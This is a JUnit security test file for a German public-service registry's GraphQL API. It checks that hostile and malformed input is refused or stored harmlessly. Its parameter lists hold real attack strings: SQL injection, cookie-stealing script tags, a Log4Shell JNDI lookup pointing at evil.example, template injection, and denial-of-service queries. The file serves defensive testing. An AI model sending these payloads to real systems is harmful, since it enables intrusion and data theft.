package de.ozgregistry.security;

import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import de.ozgregistry.support.ApiTest;

import org.springframework.beans.factory.annotation.Value;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile and broken input: each case gets a clear error (or, for text that is merely unusual, is stored verbatim),
 * nothing is persisted by a failed call, and the server keeps serving afterwards.
 */
class BadInputTest extends ApiTest {

	private static final String PUBLISH = """
			mutation($input: PublishSolutionInput!) { publishSolution(input: $input) { solution { id name summary } } }""";

	private static final String INJECTION = "x'); drop table solution; --";

	@Value("${local.server.port}")
	int port;

	private List<Long> before;

	@BeforeEach
	void rememberState() {
		before = state();
	}

	@AfterEach
	void serverStillServes() {
		execute("{ ozgService(ozgId: 10000) { name } }").path("ozgService.name").entity(String.class)
			.isEqualTo("Elterngeld");
	}

	private List<Long> state() {
		return List.of(count("select count(*) from solution"), count("select count(*) from adoption"),
				count("select count(*) from organization"), count("select count(*) from change_log"));
	}

	private Map<String, Object> solution(String field, Object value) {
		Map<String, Object> input = new HashMap<>();
		input.put("name", "Eingabetest");
		input.put("summary", "s");
		input.put("providerId", municipality("073150000000"));
		input.put("ozgIds", List.of(10160));
		input.put("reuseModel", "OPEN_SOURCE");
		input.put("lifecycle", "PRODUCTION");
		input.put(field, value);
		return input;
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "0", "07315", "07315000000", "0731500000000", "07315000000O", "073150000000 ",
			"' or 1=1 --", "073150000000'; drop table organization; --", "<script>alert(1)</script>",
			"１２３４５６７８９０１２", "99000000000", "990000000000", "\u0000\u0000" })
	void malformedArsIsAValidationErrorEverywhere(String ars) {
		assertError(execute("query($a: String) { organization(ars: $a) { name } }", Map.of("a", ars)),
				"VALIDATION_FAILED", "ars");
		assertError(execute("query($a: String) { organizations(filter: { parentArs: $a }) { totalCount } }",
				Map.of("a", ars)), "VALIDATION_FAILED", "filter.parentArs");
		assertError(execute("mutation($a: String) { registerOrganization(input: { kind: MUNICIPAL_ASSOCIATION, name: \"Amt\", ars: $a }) { organization { id } } }",
				Map.of("a", ars)), "VALIDATION_FAILED", "input.ars");
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "name:201", "summary:501", "description:10001", "termsAndCosts:5001", "contactPerson:301",
			"releaseVersion:51", "licence:201", "repositoryUrl:501", "description:100000" })
	void oversizedStringsAreRefused(String fieldAndLength) {
		String[] parts = fieldAndLength.split(":");
		String value = parts[0].endsWith("Url") ? "https://example.org/" + "a".repeat(Integer.parseInt(parts[1]))
				: "ä".repeat(Integer.parseInt(parts[1]));
		assertError(execute(PUBLISH, Map.of("input", solution(parts[0], value))), "VALIDATION_FAILED",
				"input." + parts[0]);
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "ozgIds:51", "leikaKeys:201", "standards:51" })
	void oversizedListsAreRefused(String fieldAndSize) {
		String[] parts = fieldAndSize.split(":");
		int size = Integer.parseInt(parts[1]);
		List<?> value = switch (parts[0]) {
			case "ozgIds" -> IntStream.range(10000, 10000 + size).boxed().toList();
			case "leikaKeys" -> IntStream.range(0, size).mapToObj(i -> String.format("99%012d", i)).toList();
			default -> IntStream.range(0, size).mapToObj(i -> "Standard " + i).toList();
		};
		assertError(execute(PUBLISH, Map.of("input", solution(parts[0], value))), "VALIDATION_FAILED",
				"input." + parts[0]);
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { INJECTION, "<script>alert(document.cookie)</script>", "Robert'); DROP TABLE adoption;--",
			"${jndi:ldap://evil.example/a}", "{{7*7}}", "\\\"; } mutation { x }", "Straße & Söhne <b>GmbH</b>" })
	void injectionAttemptsInTextAreStoredVerbatimAndHarmless(String text) {
		var response = execute(PUBLISH, Map.of("input", solution("summary", text)));
		response.path("publishSolution.solution.summary").entity(String.class).isEqualTo(text);
		assertThat(count("select count(*) from solution")).isEqualTo(before.get(0) + 1);
		assertThat(count("select count(*) from organization")).isEqualTo(before.get(2));
		execute("query($n: String) { organizations(filter: { name: $n }) { totalCount } }", Map.of("n", text))
			.path("organizations.totalCount").entity(Integer.class).isEqualTo(0);
	}

	@ParameterizedTest
	@ValueSource(strings = { "lone high surrogate:Hunde\uD83Dsteuer", "lone low surrogate:\uDE00Hundesteuer",
			"NUL:Hunde\u0000steuer", "escape:Hunde\u001Bsteuer", "bell:\u0007" })
	void invalidUnicodeIsAValidationError(String labelled) {
		String text = labelled.substring(labelled.indexOf(':') + 1);
		assertError(execute(PUBLISH, Map.of("input", solution("name", text))), "VALIDATION_FAILED", "input.name");
		assertError(execute("query($n: String) { organizations(filter: { name: $n }) { totalCount } }",
				Map.of("n", text)), "VALIDATION_FAILED", "filter.name");
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(strings = { "invalid utf-8", "truncated json", "not json", "huge body" })
	void brokenRequestBodiesGetAClientErrorWithoutDetails(String kind) {
		byte[] body = switch (kind) {
			case "invalid utf-8" -> new byte[] { '{', '"', 'q', 'u', 'e', 'r', 'y', '"', ':', '"', (byte) 0xC3, 0x28,
					'"', '}' };
			case "truncated json" -> "{\"query\":\"{ themenfelder { name } }".getBytes(StandardCharsets.UTF_8);
			case "not json" -> "query=themenfelder".getBytes(StandardCharsets.UTF_8);
			default -> ("{\"query\":\"{ themenfelder { name } }\",\"variables\":{\"x\":\"" + "a".repeat(3_000_000)
					+ "\"}}").getBytes(StandardCharsets.UTF_8);
		};
		WebTestClient.bindToServer()
			.baseUrl("http://localhost:" + port)
			.build()
			.post()
			.uri("/graphql")
			.contentType(MediaType.APPLICATION_JSON)
			.bodyValue(body)
			.exchange()
			.expectStatus()
			.value(status -> assertThat(status).isBetween(400, 499))
			.expectBody(String.class)
			.value(text -> assertThat(text == null ? "" : text).doesNotContain("Exception", "at org.", "at java."));
		assertThat(state()).isEqualTo(before);
	}

	@ParameterizedTest
	@ValueSource(ints = { 13, 20, 50, 200 })
	void deeplyNestedQueriesAreRefused(int depth) {
		StringBuilder query = new StringBuilder("{ organization(ars: \"073150000000\") ");
		for (int i = 0; i < depth; i++) {
			query.append("{ parent ");
		}
		query.append("{ name }").append(" }".repeat(depth)).append(" }");
		assertError(execute(query.toString()), "QUERY_TOO_COMPLEX", null);
	}

	@ParameterizedTest
	@ValueSource(ints = { 1_000, 5_000 })
	void hugeQueriesAreRefused(int aliases) {
		StringBuilder query = new StringBuilder("{ ");
		for (int i = 0; i < aliases; i++) {
			query.append("a").append(i).append(": themenfelder { name } ");
		}
		query.append("}");
		assertError(execute(query.toString()), "QUERY_TOO_COMPLEX", null);
	}

}
